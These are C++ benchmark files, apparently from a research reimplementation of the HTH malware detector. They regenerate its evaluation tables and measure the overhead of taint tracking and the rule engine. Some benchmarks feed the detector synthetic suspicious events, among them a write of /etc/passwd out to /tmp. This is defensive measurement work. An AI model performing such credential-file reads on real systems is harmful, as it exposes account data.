    a.exit(1);
    auto image = a.build();

    Hth hth;
    hth.kernel().vfs().addBinary(image->path, image);
    hth.kernel().vfs().addBinary("/bin/true",
                                 makeNoopBinary("/bin/true"));
    Report report = hth.monitor(image->path, {image->path});

    uint64_t instructions = 0, bbs = 0, taint_ops = 0;
    for (const auto &p : hth.kernel().processes()) {
        instructions += p->machine.stats().instructions;
        bbs += p->machine.stats().basicBlocks;
        taint_ops += p->machine.stats().taintOps;
    }

    std::cout << "\nMeasured instrumentation activity:\n"
              << "  instructions instrumented : " << instructions
              << "\n"
              << "  basic blocks observed     : " << bbs << "\n"
              << "  data-flow operations      : " << taint_ops << "\n"
              << "  monitor events analyzed   : "
              << report.eventsAnalyzed << "\n"
              << "  policy rules fired        : " << report.rulesFired
              << "\n";

    std::cout << "\nFigure 3 check (BB attribution across shared "
                 "objects):\n"
              << report.transcript << "\n";

    // The execve warning must NOT carry frequency 5 (the loop BB);
    // the triggering BB runs once.
    bool attributed = report.flagged() &&
                      report.transcript.find("rarely") ==
                          std::string::npos;
    std::cout << (attributed
                      ? "execve attributed to its own (hot-path) "
                        "application BB: no rare-code escalation.\n"
                      : "ATTRIBUTION UNEXPECTED — check the "
                        "transcript above.\n");
    return attributed ? 0 : 1;
}
