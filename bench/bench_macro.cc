/**
 * @file
 * Regenerates the §8.4 macro-benchmark results: pwsafe, the
 * mw2.2.1 perl script and Ultra Tic-Tac-Toe, each clean and with
 * implanted malicious code.
 */

#include "bench/BenchUtil.hh"
#include "workloads/Macro.hh"

int
main()
{
    return hth::bench::runScenarioTable(
        "Section 8.4: Macro benchmarks",
        hth::workloads::macroScenarios());
}
