/**
 * @file
 * Shared helpers for the evaluation benches: fixed-width table
 * printing and scenario-table runners.
 */

#ifndef HTH_BENCH_BENCHUTIL_HH
#define HTH_BENCH_BENCHUTIL_HH

#include <iomanip>
#include <iostream>
#include <string>
#include <vector>

#include "workloads/Scenario.hh"

namespace hth::bench
{

/** Print a horizontal rule sized to the column widths. */
inline void
rule(const std::vector<int> &widths)
{
    std::cout << "+";
    for (int w : widths)
        std::cout << std::string((size_t)w + 2, '-') << "+";
    std::cout << "\n";
}

/** Print one table row with the given column widths. */
inline void
row(const std::vector<int> &widths,
    const std::vector<std::string> &cells)
{
    std::cout << "|";
    for (size_t i = 0; i < widths.size(); ++i) {
        std::string cell = i < cells.size() ? cells[i] : "";
        std::cout << " " << std::left << std::setw(widths[i]) << cell
                  << " |";
    }
    std::cout << "\n";
}

/** Severity display: "-", "LOW", "MEDIUM", "HIGH". */
inline std::string
severityCell(const Report &report)
{
    if (!report.flagged())
        return "-";
    return secpert::severityName(report.maxSeverity());
}

/** Check-mark cell. */
inline std::string
mark(bool value)
{
    return value ? "yes" : "";
}

/** Named counter from a run's telemetry snapshot (0 when absent). */
inline uint64_t
telemetryCounter(const Report &report, const std::string &name)
{
    return report.telemetry.metrics.counter(name);
}

/** hits / (hits + misses) as a percentage, safe on zero totals. */
inline double
hitRatePercent(uint64_t hits, uint64_t misses)
{
    uint64_t total = hits + misses;
    return total ? 100.0 * (double)hits / (double)total : 0.0;
}

/**
 * Run a scenario list and print the classification table the
 * paper's §8.1-§8.3 tables use. @return number of misclassified.
 */
inline int
runScenarioTable(const std::string &title,
                 const std::vector<workloads::Scenario> &scenarios,
                 const HthOptions &options = {})
{
    std::cout << "\n== " << title << " ==\n\n";
    std::vector<int> widths = {44, 10, 10, 10, 9};
    rule(widths);
    row(widths, {"Benchmark", "Expected", "Observed", "Severity",
                 "Correct"});
    rule(widths);
    int wrong = 0;
    for (const auto &s : scenarios) {
        workloads::ScenarioResult r =
            workloads::runScenario(s, options);
        if (!r.correct)
            ++wrong;
        row(widths,
            {s.id, s.expectMalicious ? "malicious" : "trusted",
             r.flagged ? "flagged" : "clean",
             severityCell(r.report), r.correct ? "yes" : "NO"});
    }
    rule(widths);
    std::cout << (wrong == 0 ? "All benchmarks correctly classified."
                             : "MISCLASSIFIED: some rows diverge!")
              << "\n";
    return wrong;
}

} // namespace hth::bench

#endif // HTH_BENCH_BENCHUTIL_HH
