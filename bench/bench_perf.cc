/**
 * @file
 * Performance evaluation (paper §9) as google-benchmark cases.
 *
 * The paper's finding: Harrier's dominant cost is instruction-level
 * data-flow tracking (its prototype structures were naive). The
 * cases below separate the layers so the overhead composition can
 * be read off directly:
 *
 *   BM_VmBare        — guest execution, no monitor, no taint
 *   BM_VmMonitored   — monitor attached (BB callbacks + events),
 *                      taint off
 *   BM_VmTaint       — full HTH: monitor + data-flow tracking
 *   BM_TagStoreUnion — the memoised tag-set union primitive
 *   BM_ShadowMemory  — shadow byte tagging
 *   BM_ClipsEvent    — Secpert cost per analyzed event
 *
 * Counters report guest instructions per second so the slowdown
 * ratios (the §9 "shape": taint ≫ monitor ≈ bare) are explicit.
 */

#include <benchmark/benchmark.h>

#include "core/Hth.hh"
#include "harrier/Harrier.hh"
#include "secpert/Secpert.hh"
#include "taint/Shadow.hh"
#include "taint/TagSet.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/** A data-flow-heavy guest: copies and mixes two buffers. */
std::shared_ptr<const vm::Image>
makeComputeGuest(int iterations)
{
    Gasm a("/bench/compute.exe");
    a.dataString("src", "abcdefghijklmnopqrstuvwxyz0123456789");
    a.dataSpace("dst", 64);
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("outer");
    // Copy 32 bytes with load/store, mixing arithmetic.
    a.movi(Reg::Edx, 0);
    a.label("inner");
    a.leaSym(Reg::Esi, "src");
    a.add(Reg::Esi, Reg::Edx);
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.addi(Reg::Eax, 1);
    a.leaSym(Reg::Edi, "dst");
    a.add(Reg::Edi, Reg::Edx);
    a.storeb(Reg::Edi, 0, Reg::Eax);
    a.addi(Reg::Edx, 1);
    a.cmpi(Reg::Edx, 32);
    a.jl("inner");
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, iterations);
    a.jl("outer");
    a.exit(0);
    return a.build();
}

constexpr int GUEST_ITERS = 5000;

/** Run the guest; returns executed guest instructions. */
uint64_t
runGuest(bool monitored, bool taint)
{
    HthOptions options;
    options.taintTracking = taint;
    Hth hth(options);
    if (!monitored) {
        // Detach Harrier: raw kernel + VM only.
        hth.kernel().setMonitor(nullptr);
        hth.kernel().setInstrumentor(nullptr);
    }
    auto image = makeComputeGuest(GUEST_ITERS);
    hth.kernel().vfs().addBinary(image->path, image);
    hth.monitor(image->path, {image->path});
    uint64_t instructions = 0;
    for (const auto &p : hth.kernel().processes())
        instructions += p->machine.stats().instructions;
    return instructions;
}

void
BM_VmBare(benchmark::State &state)
{
    uint64_t instructions = 0;
    for (auto _ : state)
        instructions += runGuest(false, false);
    state.counters["guest_insns/s"] = benchmark::Counter(
        (double)instructions, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_VmBare);

void
BM_VmMonitored(benchmark::State &state)
{
    uint64_t instructions = 0;
    for (auto _ : state)
        instructions += runGuest(true, false);
    state.counters["guest_insns/s"] = benchmark::Counter(
        (double)instructions, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_VmMonitored);

void
BM_VmTaint(benchmark::State &state)
{
    uint64_t instructions = 0;
    for (auto _ : state)
        instructions += runGuest(true, true);
    state.counters["guest_insns/s"] = benchmark::Counter(
        (double)instructions, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_VmTaint);

void
BM_TagStoreUnion(benchmark::State &state)
{
    taint::TagStore store;
    std::vector<taint::TagSetId> sets;
    for (uint32_t i = 0; i < 64; ++i)
        sets.push_back(store.single(
            {taint::SourceType::File, (taint::ResourceId)i}));
    size_t i = 0;
    for (auto _ : state) {
        taint::TagSetId a = sets[i % sets.size()];
        taint::TagSetId b = sets[(i * 7 + 3) % sets.size()];
        benchmark::DoNotOptimize(store.unite(a, b));
        ++i;
    }
    state.counters["union_cache_hit%"] =
        100.0 * (double)store.stats().unionCacheHits /
        (double)std::max<uint64_t>(1, store.stats().unionCalls);
}
BENCHMARK(BM_TagStoreUnion);

void
BM_ShadowMemory(benchmark::State &state)
{
    taint::TagStore store;
    taint::ShadowMemory shadow;
    taint::TagSetId tag = store.single(
        {taint::SourceType::Binary, 1});
    uint32_t addr = 0x1000;
    for (auto _ : state) {
        shadow.setRange(addr, 64, tag);
        benchmark::DoNotOptimize(shadow.rangeUnion(store, addr, 64));
        addr = (addr + 64) & 0xfffff;
    }
}
BENCHMARK(BM_ShadowMemory);

void
BM_ClipsEvent(benchmark::State &state)
{
    secpert::Secpert secpert;
    harrier::ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.time = 10;
    ev.ctx.frequency = 5;
    ev.syscall = "SYS_execve";
    ev.resName = "/bin/ls";
    ev.resType = taint::SourceType::File;
    ev.origins = {{taint::SourceType::Binary, "/tmp/a.out"}};
    for (auto _ : state)
        secpert.onResourceAccess(ev);
    state.counters["events"] =
        (double)secpert.stats().eventsAnalyzed;
}
BENCHMARK(BM_ClipsEvent);

} // namespace

BENCHMARK_MAIN();
