/**
 * @file
 * Performance evaluation (paper §9) as google-benchmark cases.
 *
 * The paper's finding: Harrier's dominant cost is instruction-level
 * data-flow tracking (its prototype structures were naive). The
 * cases below separate the layers so the overhead composition can
 * be read off directly:
 *
 *   BM_VmBare        — guest execution, no monitor, no taint
 *   BM_VmMonitored   — monitor attached (BB callbacks + events),
 *                      taint off
 *   BM_VmTaint       — full HTH: monitor + data-flow tracking
 *   BM_VmTaintNoTelemetry — BM_VmTaint with the phase profiler off
 *                      (the telemetry-overhead baseline)
 *   BM_VmTaintObserved / BM_VmTaintUnobserved — span tracer +
 *                      flight recorder both on vs both off (the
 *                      observability-overhead bound, ~5% budget)
 *   BM_TagStoreUnion — the memoised tag-set union primitive
 *   BM_ShadowMemory  — shadow byte tagging
 *   BM_ClipsEvent    — Secpert cost per analyzed event
 *                      (+ a NoTelemetry twin without a profiler)
 *
 * Counters report guest instructions per second so the slowdown
 * ratios (the §9 "shape": taint ≫ monitor ≈ bare) are explicit.
 */

#include <benchmark/benchmark.h>

#include "BenchUtil.hh"
#include "anomaly/Baseline.hh"
#include "anomaly/Scorer.hh"
#include "core/Hth.hh"
#include "obs/Profiler.hh"
#include "harrier/Harrier.hh"
#include "secpert/Secpert.hh"
#include "taint/Shadow.hh"
#include "taint/TagSet.hh"
#include "workloads/GuestLib.hh"
#include "workloads/SyntheticPolicy.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/** A data-flow-heavy guest: copies and mixes two buffers. */
std::shared_ptr<const vm::Image>
makeComputeGuest(int iterations)
{
    Gasm a("/bench/compute.exe");
    a.dataString("src", "abcdefghijklmnopqrstuvwxyz0123456789");
    a.dataSpace("dst", 64);
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("outer");
    // Copy 32 bytes with load/store, mixing arithmetic.
    a.movi(Reg::Edx, 0);
    a.label("inner");
    a.leaSym(Reg::Esi, "src");
    a.add(Reg::Esi, Reg::Edx);
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.addi(Reg::Eax, 1);
    a.leaSym(Reg::Edi, "dst");
    a.add(Reg::Edi, Reg::Edx);
    a.storeb(Reg::Edi, 0, Reg::Eax);
    a.addi(Reg::Edx, 1);
    a.cmpi(Reg::Edx, 32);
    a.jl("inner");
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, iterations);
    a.jl("outer");
    a.exit(0);
    return a.build();
}

constexpr int GUEST_ITERS = 5000;

/** Aggregated VM statistics from one guest execution. */
struct GuestRun
{
    uint64_t instructions = 0;
    uint64_t blockCacheHits = 0;
    uint64_t blockCacheMisses = 0;
    uint64_t superblockInsns = 0;
    uint64_t superblockDeopts = 0;
};

/** Run the guest; returns executed instructions + cache behaviour. */
GuestRun
runGuest(bool monitored, bool taint, bool telemetry,
         bool superblocks = true, int observed = -1)
{
    HthOptions options;
    options.taintTracking = taint;
    options.telemetry = telemetry;
    options.superblocks = superblocks;
    // observed: -1 = ship defaults (flight on, spans off), 0 = both
    // off, 1 = both on. The 0/1 twins bound the tracer+recorder
    // overhead (budget: ~5%).
    if (observed == 0)
        options.flightRecorderEntries = 0;
    else if (observed == 1)
        options.spanTrace = true;
    Hth hth(options);
    if (!monitored) {
        // Detach Harrier: raw kernel + VM only.
        hth.kernel().setMonitor(nullptr);
        hth.kernel().setInstrumentor(nullptr);
    }
    auto image = makeComputeGuest(GUEST_ITERS);
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});
    GuestRun run;
    run.instructions =
        bench::telemetryCounter(report, "vm.instructions");
    run.blockCacheHits =
        bench::telemetryCounter(report, "vm.block_cache.hits");
    run.blockCacheMisses =
        bench::telemetryCounter(report, "vm.block_cache.misses");
    run.superblockInsns = bench::telemetryCounter(
        report, "vm.dispatch.superblock_insns");
    run.superblockDeopts =
        bench::telemetryCounter(report, "vm.superblock.deopts");
    return run;
}

/** Shared body of the VM benches. */
void
runVmBench(benchmark::State &state, bool monitored, bool taint,
           bool telemetry = true, bool superblocks = true,
           int observed = -1)
{
    GuestRun total;
    for (auto _ : state) {
        GuestRun run = runGuest(monitored, taint, telemetry,
                                superblocks, observed);
        total.instructions += run.instructions;
        total.blockCacheHits += run.blockCacheHits;
        total.blockCacheMisses += run.blockCacheMisses;
        total.superblockInsns += run.superblockInsns;
        total.superblockDeopts += run.superblockDeopts;
    }
    state.counters["guest_insns/s"] = benchmark::Counter(
        (double)total.instructions, benchmark::Counter::kIsRate);
    // Decoded-block cache efficiency: hits / (hits + misses). The
    // cached-vs-uncached dispatch ratio of the PIN-style code cache.
    state.counters["bb_cache_hit%"] = bench::hitRatePercent(
        total.blockCacheHits, total.blockCacheMisses);
    // Trace-dispatch coverage: share of guest instructions retired
    // inside linked superblocks rather than by generic dispatch.
    state.counters["sb_insn%"] =
        100.0 * (double)total.superblockInsns /
        (double)std::max<uint64_t>(1, total.instructions);
    state.counters["sb_deopts"] = (double)total.superblockDeopts;
}

void
BM_VmBare(benchmark::State &state)
{
    runVmBench(state, false, false);
}
BENCHMARK(BM_VmBare);

void
BM_VmMonitored(benchmark::State &state)
{
    runVmBench(state, true, false);
}
BENCHMARK(BM_VmMonitored);

void
BM_VmTaint(benchmark::State &state)
{
    runVmBench(state, true, true);
}
BENCHMARK(BM_VmTaint);

/** BM_VmTaint with the phase profiler disabled: the pair bounds the
 * telemetry overhead (budget: < 5%). */
void
BM_VmTaintNoTelemetry(benchmark::State &state)
{
    runVmBench(state, true, true, false);
}
BENCHMARK(BM_VmTaintNoTelemetry);

/** BM_VmTaint with span tracing AND the flight recorder on — vs a
 * twin with both off. The pair bounds the full observability cost
 * (ring stores + scope clock reads + flight notes; budget ~5%). */
void
BM_VmTaintObserved(benchmark::State &state)
{
    runVmBench(state, true, true, true, true, 1);
}
BENCHMARK(BM_VmTaintObserved);

void
BM_VmTaintUnobserved(benchmark::State &state)
{
    runVmBench(state, true, true, true, true, 0);
}
BENCHMARK(BM_VmTaintUnobserved);

/** BM_VmTaint with the trace-linking engine disabled: the ablation
 * baseline, so BM_VmTaintNoSuperblocks / BM_VmTaint is the win from
 * superblock formation + threaded dispatch alone. */
void
BM_VmTaintNoSuperblocks(benchmark::State &state)
{
    runVmBench(state, true, true, true, false);
}
BENCHMARK(BM_VmTaintNoSuperblocks);

void
BM_TagStoreUnion(benchmark::State &state)
{
    taint::TagStore store;
    std::vector<taint::TagSetId> sets;
    for (uint32_t i = 0; i < 64; ++i)
        sets.push_back(store.single(
            {taint::SourceType::File, (taint::ResourceId)i}));
    size_t i = 0;
    for (auto _ : state) {
        taint::TagSetId a = sets[i % sets.size()];
        taint::TagSetId b = sets[(i * 7 + 3) % sets.size()];
        benchmark::DoNotOptimize(store.unite(a, b));
        ++i;
    }
    state.counters["union_cache_hit%"] =
        100.0 * (double)store.stats().unionCacheHits /
        (double)std::max<uint64_t>(1, store.stats().unionCalls);
}
BENCHMARK(BM_TagStoreUnion);

void
BM_ShadowMemory(benchmark::State &state)
{
    taint::TagStore store;
    taint::ShadowMemory shadow;
    taint::TagSetId tag = store.single(
        {taint::SourceType::Binary, 1});
    uint32_t addr = 0x1000;
    for (auto _ : state) {
        shadow.setRange(addr, 64, tag);
        benchmark::DoNotOptimize(shadow.rangeUnion(store, addr, 64));
        addr = (addr + 64) & 0xfffff;
    }
}
BENCHMARK(BM_ShadowMemory);

/** Shared body of the Secpert event benches: the matcher strategy is
 * the only difference, so their ratios isolate the matcher speedup
 * (Rete vs dirty-rescan vs naive full recomputation). */
void
runClipsBench(benchmark::State &state,
              secpert::PolicyConfig::Matcher matcher,
              bool telemetry = true, bool observed = false)
{
    secpert::PolicyConfig config;
    config.matcher = matcher;
    secpert::Secpert secpert(config);
    obs::PhaseProfiler profiler;
    obs::SpanTracer tracer;
    obs::FlightRecorder flight;
    if (telemetry) {
        secpert.setProfiler(&profiler);
        profiler.start();
    }
    if (observed) {
        secpert.setSpanTracer(&tracer);
        secpert.setFlightRecorder(&flight);
    }
    harrier::ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.time = 10;
    ev.ctx.frequency = 5;
    ev.syscall = "SYS_execve";
    ev.resName = "/bin/ls";
    ev.resType = taint::SourceType::File;
    ev.origins = {{taint::SourceType::Binary, "/tmp/a.out"}};
    for (auto _ : state)
        secpert.onResourceAccess(ev);
    const clips::EngineStats &es = secpert.env().stats();
    state.counters["events"] =
        (double)secpert.stats().eventsAnalyzed;
    // Rule-level match recomputations per event: all rules per pass
    // under Naive, only the dirtied rules under DirtyRescan, zero
    // under Rete (joins replace rescans; see join_attempts/event).
    state.counters["rule_matches/event"] =
        (double)es.ruleMatches /
        (double)std::max<uint64_t>(1, secpert.stats().eventsAnalyzed);
    state.counters["join_attempts/event"] =
        (double)es.reteJoinAttempts /
        (double)std::max<uint64_t>(1, secpert.stats().eventsAnalyzed);
}

void
BM_ClipsEvent(benchmark::State &state)
{
    runClipsBench(state, secpert::PolicyConfig::Matcher::Rete);
}
BENCHMARK(BM_ClipsEvent);

/** BM_ClipsEvent without a profiler attached: the telemetry-overhead
 * baseline for the expert-system path. */
void
BM_ClipsEventNoTelemetry(benchmark::State &state)
{
    runClipsBench(state, secpert::PolicyConfig::Matcher::Rete,
                  false);
}
BENCHMARK(BM_ClipsEventNoTelemetry);

/** BM_ClipsEvent with a span tracer (one ClipsPump span per event)
 * and a flight recorder (one note per event and per fire) attached:
 * with the plain twin this bounds the per-event observability cost
 * on the hot expert-system path. */
void
BM_ClipsEventObserved(benchmark::State &state)
{
    runClipsBench(state, secpert::PolicyConfig::Matcher::Rete, true,
                  true);
}
BENCHMARK(BM_ClipsEventObserved);

/** The dirty-rescan matcher (the pre-Rete incremental engine), kept
 * as a differential oracle: BM_ClipsEvent / BM_ClipsEventDirtyRescan
 * is the win from delta propagation alone. */
void
BM_ClipsEventDirtyRescan(benchmark::State &state)
{
    runClipsBench(state,
                  secpert::PolicyConfig::Matcher::DirtyRescan);
}
BENCHMARK(BM_ClipsEventDirtyRescan);

/** The naive full-recomputation matcher, the slowest oracle. */
void
BM_ClipsEventNaive(benchmark::State &state)
{
    runClipsBench(state, secpert::PolicyConfig::Matcher::Naive);
}
BENCHMARK(BM_ClipsEventNaive);

/** Policy at scale: the shipped rule base plus a synthetic policy
 * of range(0) generated rules (workloads::syntheticPolicy — shared
 * CE prefixes, distinct literal guards and thresholds), pumped with
 * the standard event. Rete's alpha index routes each assert past
 * the non-matching guards, so its per-event cost should stay flat
 * as rules grow; the dirty-rescan oracle (range(1) == 1) rescans
 * every rule the event's templates dirty, so its cost grows
 * linearly. The Rete/DirtyRescan ratio at a given rule count is the
 * policy-at-scale win. */
void
BM_ClipsManyRules(benchmark::State &state)
{
    secpert::PolicyConfig config;
    config.matcher =
        state.range(1) == 0
            ? secpert::PolicyConfig::Matcher::Rete
            : secpert::PolicyConfig::Matcher::DirtyRescan;
    secpert::Secpert secpert(config);
    SyntheticPolicyConfig syn;
    syn.ruleCount = (int)state.range(0);
    secpert.env().loadString(syntheticPolicy(syn));
    obs::PhaseProfiler profiler;
    secpert.setProfiler(&profiler);
    profiler.start();

    // A representative event mix, identical under both strategies:
    // an execution-flow access event and an information-flow write.
    // The io event dirties the io and hybrid synthetic families the
    // access event alone would leave clean.
    harrier::ResourceAccessEvent access;
    access.ctx.pid = 1;
    access.ctx.time = 10;
    access.ctx.frequency = 5;
    access.syscall = "SYS_execve";
    access.resName = "/bin/ls";
    access.resType = taint::SourceType::File;
    access.origins = {{taint::SourceType::Binary, "/tmp/a.out"}};
    harrier::ResourceIoEvent io;
    io.ctx.pid = 1;
    io.ctx.time = 10;
    io.ctx.frequency = 5;
    io.syscall = "SYS_write";
    io.isWrite = true;
    io.source = {taint::SourceType::File, "/etc/passwd"};
    io.sourceOrigins = {{taint::SourceType::Binary, "/tmp/a.out"}};
    io.targetName = "/tmp/out";
    io.targetType = taint::SourceType::File;
    io.targetOrigins = {{taint::SourceType::Binary, "/tmp/a.out"}};
    for (auto _ : state) {
        secpert.onResourceAccess(access);
        secpert.onResourceIo(io);
    }
    profiler.stop();

    const clips::EngineStats &es = secpert.env().stats();
    uint64_t events =
        std::max<uint64_t>(1, secpert.stats().eventsAnalyzed);
    // The acceptance metric: pattern-match nanoseconds per event
    // (delta propagation under Rete, dirty-rule rescans under the
    // oracle) with everything else — assert, fire, retract — factored
    // out.
    state.counters["match_ns/event"] =
        (double)profiler.breakdown().phaseNs(obs::Phase::ClipsMatch) /
        (double)events;
    state.counters["rule_matches/event"] =
        (double)es.ruleMatches / (double)events;
    state.counters["join_attempts/event"] =
        (double)es.reteJoinAttempts / (double)events;
    state.counters["beta_live"] =
        (double)(es.reteTokensCreated - es.reteTokensDestroyed);
}
BENCHMARK(BM_ClipsManyRules)
    ->ArgsProduct({{100, 250, 500, 1000}, {0, 1}})
    ->ArgNames({"rules", "dirty"});

/** Deviation scoring at fleet scale: one RunTelemetry snapshot
 * against a realistic-width baseline (a few hundred metrics). The
 * scorer runs once per monitored session, so it must stay µs-scale
 * next to the session's ms-scale guest execution. */
void
BM_AnomalyScore(benchmark::State &state)
{
    const int metricCount = 256;
    anomaly::BaselineBuilder builder("bench");
    obs::RunTelemetry sample;
    sample.profiled = true;
    for (int i = 0; i < metricCount; ++i)
        sample.metrics.counters["metric." + std::to_string(i)] =
            1000 + i;
    for (int s = 0; s < 5; ++s) {
        for (auto &[name, value] : sample.metrics.counters)
            value += 7;   // mild seed-to-seed drift
        builder.addSample(sample);
    }
    anomaly::BaselineProfile baseline = builder.build();

    obs::RunTelemetry run = sample;
    run.metrics.counters["metric.13"] *= 3;        // one deviant
    run.metrics.counters["novel.syscall"] = 1;     // one novel
    double aggregate = 0;
    for (auto _ : state) {
        anomaly::AnomalyScore score =
            anomaly::scoreTelemetry(run, "bench", baseline);
        aggregate = score.aggregate;
        benchmark::DoNotOptimize(score);
    }
    state.counters["metrics_scored"] = metricCount + 1;
    state.counters["aggregate"] = aggregate;
}
BENCHMARK(BM_AnomalyScore);

/** Baseline persistence cost (serialize + parse of a full profile):
 * bounds what `hthd --baseline-record` pays per scenario. */
void
BM_BaselineRoundTrip(benchmark::State &state)
{
    anomaly::BaselineBuilder builder("bench");
    obs::RunTelemetry sample;
    sample.profiled = true;
    for (int i = 0; i < 256; ++i)
        sample.metrics.counters["metric." + std::to_string(i)] =
            12345 + i * 3;
    for (int s = 0; s < 5; ++s)
        builder.addSample(sample);
    anomaly::BaselineProfile baseline = builder.build();
    for (auto _ : state) {
        std::string text = anomaly::serializeBaseline(baseline);
        benchmark::DoNotOptimize(anomaly::parseBaseline(text));
    }
}
BENCHMARK(BM_BaselineRoundTrip);

} // namespace

BENCHMARK_MAIN();
