/**
 * @file
 * Regenerates Table 6: HTH micro benchmarks — information flow.
 * Socket probes run both as clients and as servers, as in §8.1.3.
 */

#include "bench/BenchUtil.hh"
#include "workloads/Micro.hh"

int
main()
{
    return hth::bench::runScenarioTable(
        "Table 6: Micro benchmarks - Information Flow",
        hth::workloads::infoFlowScenarios());
}
