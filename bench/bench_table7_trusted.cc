/**
 * @file
 * Regenerates Table 7: running trusted programs (the false-positive
 * evaluation of §8.2). Rows marked "malicious" are the warnings the
 * paper itself documents for well-behaved programs (make clean,
 * make finding g++ via $PATH, g++'s helper execs, xeyes).
 */

#include "bench/BenchUtil.hh"
#include "workloads/Trusted.hh"

int
main()
{
    return hth::bench::runScenarioTable(
        "Table 7: Trusted programs (false-positive evaluation)",
        hth::workloads::trustedProgramScenarios());
}
