/**
 * @file
 * Static pre-screening cost as google-benchmark cases.
 *
 * The analyzer runs once per image at load time, so its cost sits on
 * the spawn path rather than the per-instruction path the paper's §9
 * numbers cover. The cases below report basic blocks per second —
 * the analyzer's natural unit of work — across image sizes:
 *
 *   BM_BuildCfg      — decode + block split + reachability only
 *   BM_AnalyzeImage  — the full pass (CFG, dataflow fixpoint,
 *                      guard/dormant-code detection), swept over
 *                      synthetic branchy guests of growing size
 *   BM_AnalyzeCsh    — a realistic workload binary (the canned csh)
 *   BM_TaintReach    — the interprocedural taint-reachability pass
 *                      alone, over the largest corpus images
 *   BM_TriggerSynth  — path-sensitive trigger-condition synthesis
 *                      alone, over the same images
 *   BM_LintPolicy    — the rule linter over the shipped policy
 */

#include <benchmark/benchmark.h>

#include "analysis/Analyzer.hh"
#include "analysis/Cfg.hh"
#include "analysis/Lint.hh"
#include "analysis/Taint.hh"
#include "analysis/Trigger.hh"
#include "secpert/Policy.hh"
#include "workloads/Exploits.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/**
 * A guest of @p units diamond-shaped branch regions: each unit
 * contributes three basic blocks and a join, so block count scales
 * linearly and the fixpoint has real joins to stabilise.
 */
std::shared_ptr<const vm::Image>
makeBranchyGuest(int units)
{
    Gasm a("/bench/branchy.exe");
    a.dataString("path", "/tmp/report");
    a.dataSpace("buf", 64);
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebx, 0);
    a.movi(Reg::Ecx, 0);
    for (int i = 0; i < units; ++i) {
        std::string taken = "taken_" + std::to_string(i);
        std::string join = "join_" + std::to_string(i);
        a.movi(Reg::Eax, i);
        a.cmpi(Reg::Eax, i / 2);
        a.jz(taken);
        a.addi(Reg::Ebx, 1);
        a.jmp(join);
        a.label(taken);
        a.addi(Reg::Ecx, 1);
        a.label(join);
    }
    a.exit(0);
    return a.build();
}

void
BM_BuildCfg(benchmark::State &state)
{
    auto image = makeBranchyGuest((int)state.range(0));
    uint64_t blocks = 0;
    for (auto _ : state) {
        analysis::Cfg cfg = analysis::buildCfg(*image);
        blocks += cfg.blocks.size();
        benchmark::DoNotOptimize(cfg);
    }
    state.counters["blocks/s"] = benchmark::Counter(
        (double)blocks, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_BuildCfg)->Arg(64)->Arg(256);

void
BM_AnalyzeImage(benchmark::State &state)
{
    auto image = makeBranchyGuest((int)state.range(0));
    uint64_t blocks = 0;
    uint64_t insns = 0;
    for (auto _ : state) {
        analysis::StaticReport r = analysis::analyzeImage(*image);
        blocks += r.blockCount;
        insns += r.instructionCount;
        benchmark::DoNotOptimize(r);
    }
    state.counters["blocks/s"] = benchmark::Counter(
        (double)blocks, benchmark::Counter::kIsRate);
    state.counters["insns/s"] = benchmark::Counter(
        (double)insns, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_AnalyzeImage)->Arg(16)->Arg(64)->Arg(256)->Arg(1024);

void
BM_AnalyzeCsh(benchmark::State &state)
{
    auto image = makeCshBinary();
    uint64_t blocks = 0;
    for (auto _ : state) {
        analysis::StaticReport r = analysis::analyzeImage(*image);
        blocks += r.blockCount;
        benchmark::DoNotOptimize(r);
    }
    state.counters["blocks/s"] = benchmark::Counter(
        (double)blocks, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_AnalyzeCsh);

/** The two largest real corpus images the deep passes run over:
 * pma (the biggest exploit binary) and the dormant "updated"
 * backdoor (the trigger-synthesis motivating case). */
std::shared_ptr<const vm::Image>
corpusImage(int which)
{
    return which == 0 ? makePmaImage() : makeUpdatedImage();
}

void
BM_TaintReach(benchmark::State &state)
{
    auto image = corpusImage((int)state.range(0));
    analysis::Cfg cfg = analysis::buildCfg(*image);
    uint64_t funcs = 0;
    uint64_t sinks = 0;
    for (auto _ : state) {
        analysis::TaintResult r =
            analysis::runTaint(cfg, analysis::TaintStrategy::Summary);
        funcs += r.stats.functionsSummarized;
        sinks += r.sinks.size();
        benchmark::DoNotOptimize(r);
    }
    state.SetLabel(image->path);
    state.counters["funcs/s"] = benchmark::Counter(
        (double)funcs, benchmark::Counter::kIsRate);
    state.counters["sinks"] = benchmark::Counter(
        (double)sinks / (double)state.iterations());
}
BENCHMARK(BM_TaintReach)->Arg(0)->Arg(1);

void
BM_TriggerSynth(benchmark::State &state)
{
    auto image = corpusImage((int)state.range(0));
    analysis::Cfg cfg = analysis::buildCfg(*image);
    uint64_t paths = 0;
    uint64_t solver = 0;
    for (auto _ : state) {
        analysis::TriggerResult r = analysis::synthesizeTriggers(cfg);
        paths += r.pathsExplored;
        solver += r.solverIterations;
        benchmark::DoNotOptimize(r);
    }
    state.SetLabel(image->path);
    state.counters["paths/s"] = benchmark::Counter(
        (double)paths, benchmark::Counter::kIsRate);
    state.counters["solver_iters/s"] = benchmark::Counter(
        (double)solver, benchmark::Counter::kIsRate);
}
BENCHMARK(BM_TriggerSynth)->Arg(0)->Arg(1);

void
BM_LintPolicy(benchmark::State &state)
{
    const std::string source =
        secpert::policyDeclarations() + secpert::policyRules();
    for (auto _ : state) {
